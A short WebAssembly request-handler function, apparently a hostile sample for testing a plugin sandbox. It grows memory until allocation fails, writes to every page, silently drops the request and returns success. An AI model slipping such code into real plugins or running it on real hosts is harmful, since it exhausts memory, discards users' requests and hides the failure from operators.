;; Takes all the memory there is, writes to every page of it, and goes on as if nothing had been.
(func $on_request (param $matched i32) (param $count i32) (param $request i32) (result i32)
  (local $place i32)
  (loop $more (br_if $more (i32.ne (memory.grow (i32.const 16)) (i32.const -1))))
  (local.set $place (i32.const 65536))
  (loop $touch
    (i32.store (local.get $place) (i32.const 1))
    (local.set $place (i32.add (local.get $place) (i32.const 4096)))
    (br_if $touch (i32.lt_u (local.get $place) (i32.mul (memory.size) (i32.const 65536)))))
  (call $drop_request (local.get $request))
  (global.get $ok))
